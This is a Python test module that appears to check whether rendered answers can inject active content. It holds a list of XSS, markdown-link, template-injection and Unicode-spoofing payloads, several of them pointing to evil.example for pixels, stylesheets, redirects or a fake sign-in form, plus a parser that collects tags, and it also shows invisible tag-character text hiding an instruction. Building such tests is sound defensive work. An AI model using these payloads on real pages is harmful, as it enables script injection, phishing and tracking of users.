"""Answers that try to act in the page that shows them, and a reader that sees what a browser would."""

from html.parser import HTMLParser

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<style>*{display:none}</style>",
    "<style>@import url(https://evil.example/a.css)</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=https://evil.example onclick=alert(1)>x</a>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<p id=pair-1 class=headline>tuned won everything</p>",
    "</div></details></article></main></body></html><h1>The end</h1>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<!-- a comment --><!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](https://evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x][1]\n\n[1]: https://evil.example/pixel.gif",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example and www.evil.example",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    '```"><script>alert(1)</script>\ncode\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    </pre><script>alert(1)</script>",
    "| a | b |\n|---|:-:|\n| <script>alert(1)</script> | ![x](//evil.example) |",
    "# <img src=x onerror=alert(1)>",
    "> > > <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x202e;gpj.exe",
    "user\u202egpj.exe\u202c \u2066inside\u2069 \u200fright",
    "{{ config }} {% raw %} {{ 7 * 7 }} ${7*7} #{7*7}",
    "\x00\x01\x08\x1b[2J\x7f\x9b31m",
    "\ud800 a lone surrogate \udfff",
    "a\u200bb\u2060c\ufeffd\u00ade",
    "".join(chr(0xE0000 + ord(c)) for c in "hidden instruction"),
    "Z" + "\u0351" * 500,
    "\u2028\u2029 line separators",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "<bdo dir=rtl>x</bdo>",
    "",
    " \n\t\n",
]


class Reader(HTMLParser):
    """Collects every tag and attribute a browser would see."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, "unbalanced"
